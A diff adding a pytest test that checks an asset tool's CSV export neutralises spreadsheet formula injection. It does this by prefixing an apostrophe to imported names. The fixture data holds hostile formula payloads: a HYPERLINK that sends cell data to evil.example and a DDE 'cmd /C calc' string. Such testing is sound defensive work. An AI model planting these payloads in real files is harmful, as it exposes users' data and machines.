@@ -112,3 +112,38 @@ def test_skipped_rows_are_listed_and_an_unknown_engagement_is_an_error(sqlite_fi
         database_url=url,
     )  # fmt: skip
     assert unknown.returncode == 1 and "no engagement 'Wave 9'" in unknown.stderr
+
+
+def test_exports_from_the_command_line_write_formula_like_text_as_text(sqlite_file, tmp_path):
+    url, make_session, ctx = sqlite_file
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1)"]
+    inventory = tmp_path / "hostile.csv"
+    with inventory.open("w", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(["name", "os", "owner", "cores"])
+        writer.writerows([name, "Linux", "-2+3", 4] for name in formulas)
+    tenant = ("--client", "Acme Corp", "--engagement", "Wave 1")
+    imported = run_cli("import-assets", str(inventory), *tenant, database_url=url)
+    assert imported.returncode == 0, imported.stderr
+    with make_session() as db:
+        asset_ids = [str(asset_id) for asset_id in db.scalars(select(Asset.id))]
+        flow_id = MasterFlowOrchestrator(db, ctx).create_flow(flow_name="Hostile")
+        service = CollectionChildFlowService(db, ctx)
+        service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": asset_ids})
+        service.execute_phase(flow_id, "gap_analysis")
+
+    exported = tmp_path / "assets.csv"
+    assets = run_cli(
+        "export", flow_id, "--what", "assets", "--out", str(exported), *tenant, database_url=url
+    )
+    gaps = run_cli("export", flow_id, "--what", "gaps", "--out", "-", *tenant, database_url=url)
+
+    assert assets.returncode == 0 and gaps.returncode == 0, assets.stderr + gaps.stderr
+    asset_rows = list(csv.DictReader(io.StringIO(exported.read_text("utf-8-sig"), newline="")))
+    marked = sorted("'" + name for name in formulas)
+    assert sorted(row["name"] for row in asset_rows) == marked
+    assert {(row["business_owner"], row["cpu_cores"]) for row in asset_rows} == {("'-2+3", "4")}
+    gap_rows = list(csv.DictReader(io.StringIO(gaps.stdout.lstrip("\ufeff"), newline="")))
+    assert gap_rows and {row["asset_name"] for row in gap_rows} == set(marked)
+    again = run_cli("import-assets", str(exported), *tenant, database_url=url)
+    assert "created 0, updated 0, unchanged 3, skipped 0" in again.stdout, again.stderr
